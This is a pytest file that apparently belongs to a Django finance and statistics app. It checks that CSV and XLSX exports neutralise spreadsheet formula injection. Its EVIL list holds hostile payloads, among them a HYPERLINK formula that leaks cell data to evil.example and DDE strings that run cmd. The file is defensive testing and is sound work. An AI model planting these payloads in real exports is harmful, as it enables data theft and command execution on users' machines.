"""Exports never carry a live formula: text a spreadsheet would run (= + - @, a tab or carriage
return first) is neutralised in every CSV and XLSX, and numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from django.test import Client
from openpyxl import load_workbook

from xietong.tabular import neutralise, write_csv, xlsx_bytes

EVIL = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", EVIL)
def test_formula_text_is_neutralised_in_csv(text):
    assert neutralise(text) == "'" + text
    (row,) = list(csv.reader(io.StringIO(write_csv([[text]], ["x"]).decode(), newline="")))[1:]
    assert row == ["'" + text]


def test_plain_values_are_left_alone():
    for text in ("-12.50", "+7", "-5", "安次区第一小学", "a=b", "", "1310020001"):
        assert neutralise(text) == text
    data = write_csv(
        [[Decimal("1E+2"), Decimal("12.50"), -3, 0.25, None, dt.date(2024, 3, 1)]], "abcdef"
    )
    assert data.decode().splitlines()[1] == "100,12.50,-3,0.25,,2024-03-01"


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_text_is_never_a_formula_and_numbers_are_numbers():
    rows = [[t, Decimal("1234.50"), 3, Decimal("480")] for t in EVIL]
    data = xlsx_bytes([("s", ["text", "money", "count", "whole"], rows)])
    assert "<f>" not in _sheet_xml(data)
    ws = load_workbook(io.BytesIO(data)).active
    for i, text in enumerate(EVIL, start=2):
        cell = ws.cell(i, 1)
        # kept exactly, as text: openpyxl writes through lxml (installed with python-docx), which
        # keeps a carriage return as _x000D_ where plain XML would read it back as a line feed
        assert (cell.value, cell.data_type) == (text, "s")
        assert cell.quotePrefix is True
        money = ws.cell(i, 2)
        assert money.data_type == "n" and money.value == 1234.5
        assert money.number_format == "#,##0.00"
        assert ws.cell(i, 3).value == 3 and ws.cell(i, 4).value == 480


def test_xlsx_survives_control_characters_and_time_zones():
    from django.utils import timezone

    now = timezone.now()
    data = xlsx_bytes([("s", ["a", "b"], [["bell\x07 and nul\x00", now]])])
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.cell(2, 1).value == "bell\ufffd and nul\ufffd"
    local = timezone.localtime(now).replace(tzinfo=None)  # Excel has no time zones
    assert abs(ws.cell(2, 2).value - local) < dt.timedelta(milliseconds=1)


@pytest.fixture
def hostile_memo(world):
    from django.db import transaction

    from xietong.finance import ledger
    from xietong.finance.services import fund_open

    fund = fund_open(area=world["areas"]["yrd"], actor=None)
    with transaction.atomic():
        ledger.post(
            fund=fund,
            date=dt.date(2024, 3, 1),
            kind="manual",
            memo=EVIL[0],
            lines=[
                ledger.Line("recv:320000000000", debit=Decimal("100.50")),
                ledger.Line("income:contributions", credit=Decimal("100.50")),
            ],
            actor=None,
        )
    return fund


def test_finance_statement_memo_is_text_and_money_sums(world, hostile_memo):
    c = Client()
    c.force_login(world["users"]["jiangsu"])
    url = "/finance/yrd/statements/320000000000/?period=2024&format="
    x = c.get(url + "xlsx")
    assert x.status_code == 200
    assert "<f>" not in _sheet_xml(x.content)
    ws = load_workbook(io.BytesIO(x.content)).active
    header = [c.value for c in ws[1]]
    line = next(r for r in ws.iter_rows(min_row=2) if r[header.index("memo")].value == EVIL[0])
    assert line[header.index("memo")].data_type == "s"
    owed = line[header.index("owes_more")]
    assert (owed.data_type, owed.value, owed.number_format) == ("n", 100.5, "#,##0.00")
    assert line[header.index("date")].value == dt.datetime(2024, 3, 1)
    text = c.get(url + "csv").content.decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    memo = rows[0].index("memo")
    assert any(r[memo] == "'" + EVIL[0] for r in rows[1:])
    assert "100.50" in text


def test_csv_exports_neutralise_names(world):
    from xietong.regions.models import Jurisdiction

    Jurisdiction.objects.filter(code="131002000000").update(name_zh=EVIL[1])
    c = Client()
    c.force_login(world["users"]["admin"])
    for url in ("/aggregates.csv?level=county", "/api/aggregates?level=county&format=csv"):
        text = c.get(url).content.decode()
        rows = list(csv.reader(io.StringIO(text, newline="")))
        names = [r[rows[0].index("name_zh")] for r in rows[1:]]
        assert "'" + EVIL[1] in names and EVIL[1] not in names, url


def test_statistics_export_xlsx_has_numeric_cells(world):
    c = Client()
    c.force_login(world["users"]["langfang"])
    ws = load_workbook(io.BytesIO(c.get("/statistics/export.xlsx").content))["statistics"]
    header = [c.value for c in ws[1]]
    students = ws.cell(2, header.index("students") + 1)
    assert students.data_type == "n" and students.value == 500
    assert ws.cell(2, 1).data_type == "s"  # school codes stay text
